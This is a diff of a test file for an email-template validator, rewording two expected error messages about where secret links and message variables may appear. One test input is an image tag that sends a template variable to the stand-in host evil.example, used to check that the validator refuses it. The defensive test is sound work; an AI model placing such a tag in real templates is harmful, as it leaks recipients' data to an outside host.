@@ -45,7 +45,7 @@ describe('a secret link in a template', () => {
 
   it.each(leaks)('is refused in %s', (content) => {
     const message = expect.stringContaining(
-      'is the customer\'s secret link. It may stand in the text, or be the whole address of a link: href="{{',
+      'is the customer\'s secret link. It may appear in the text, or be the whole address of a link: href="{{',
     ) as string;
     expect(saved(content).error?.issues).toEqual([
       expect.objectContaining({ path: ['content'], message }),
@@ -124,7 +124,7 @@ it('no variable stands in what a mail program loads', () => {
         content: '<img src="https://evil.example/?{{customMessage}}">',
       }).error?.issues[0]?.message ?? '',
     ),
-  ).toBe('{{customMessage}} may stand in the text only, not inside a tag.');
+  ).toBe('{{customMessage}} may appear only in the text, not inside a tag.');
 });
 
 const piece = fc.constantFrom(
